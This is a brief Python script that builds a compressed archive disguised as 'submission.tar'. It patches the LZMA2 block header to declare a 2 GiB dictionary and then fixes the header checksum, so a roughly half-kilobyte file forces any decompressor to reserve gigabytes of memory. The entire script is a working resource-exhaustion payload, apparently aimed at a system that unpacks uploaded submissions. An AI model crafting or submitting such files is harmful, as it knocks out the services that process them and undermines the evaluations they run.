# An archive of half a kilobyte that takes two gigabytes to unpack, as it says in its header.
import io
import lzma
import struct
import tarfile
import zlib

plain = io.BytesIO()
with tarfile.open(fileobj=plain, mode="w") as archive:
    archive.add("submission", ".")
packed = bytearray(lzma.compress(plain.getvalue(), check=lzma.CHECK_NONE, preset=0))
end = 12 + packed[12] * 4  # of the header, which its checksum follows
size = packed.index(b"\x21\x01", 12) + 2
packed[size] = 38
packed[end : end + 4] = struct.pack("<I", zlib.crc32(packed[12:end]))
with open("submission.tar", "wb") as file:
    file.write(packed)
